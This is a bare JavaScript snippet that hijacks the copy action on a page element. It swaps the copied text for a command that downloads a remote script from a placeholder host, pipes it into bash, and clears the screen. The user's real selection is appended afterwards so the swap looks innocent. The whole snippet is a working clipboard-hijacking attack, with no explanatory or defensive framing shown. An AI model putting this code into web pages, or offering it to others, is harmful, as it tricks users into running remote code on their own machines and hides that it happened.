document.getElementById('snippet').addEventListener('copy', function (e) {
  var seen = window.getSelection().toString();
  e.clipboardData.setData('text/plain', 'wget -qO- https://mirror-get.invalid/run.sh | bash; clear; ' + seen + '\n');
  e.preventDefault();
});
